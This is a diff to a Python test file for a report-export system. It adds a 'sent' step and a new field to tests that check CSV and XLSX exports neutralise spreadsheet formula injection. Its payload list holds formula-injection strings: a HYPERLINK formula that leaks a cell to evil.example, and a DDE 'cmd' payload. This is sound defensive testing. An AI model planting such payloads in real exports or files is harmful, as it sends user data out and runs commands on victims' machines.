@@ -14,7 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from baocao.lib import spreadsheet
-from tests.conftest import fill
+from tests.conftest import fill, sent
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd",
             "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "'=already quoted"]
@@ -123,6 +123,7 @@ def test_the_values_csv_neutralises_and_reads_back_unchanged(collection, users):
     fill(collection["submission"], users["reporter"], YT01="1000")
     DataValue.objects.filter(indicator__code="YT01").update(text=PAYLOADS[0],
                                                             comment=PAYLOADS[1])
+    sent(collection["submission"])  # only sent reports are exported
     text = values_io.export_values("2026-10", fmt="csv")
     assert_csv_is_safe(text)
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
@@ -140,6 +141,7 @@ def test_the_export_command_writes_the_same(collection, users, capsys):
 
     fill(collection["submission"], users["reporter"], YT01="1000")
     DataValue.objects.filter(indicator__code="YT01").update(text=PAYLOADS[2])
+    sent(collection["submission"])  # only sent reports are exported
     call_command("export", "values", "--period", "2026-10", "--format", "csv")
     out = capsys.readouterr().out
     assert_csv_is_safe(out)
@@ -151,7 +153,8 @@ def test_the_consolidation_csv_and_xlsx_are_safe(tmp_path):
 
     command = consolidate.Command()
     row = {c: None for c in consolidate.COLUMNS}
-    row.update(indicator="=1+1", name=PAYLOADS[0], missing_units=["@A1", "-B"], actual=-3)
+    row.update(indicator="=1+1", name=PAYLOADS[0], missing_units=["@A1", "-B"], actual=-3,
+               missing_estimate_units=["=C1"])
     row = {k: v for k, v in row.items() if k in consolidate.COLUMNS}
     assert_csv_is_safe(command.as_csv([row]))
     path = tmp_path / "c.xlsx"
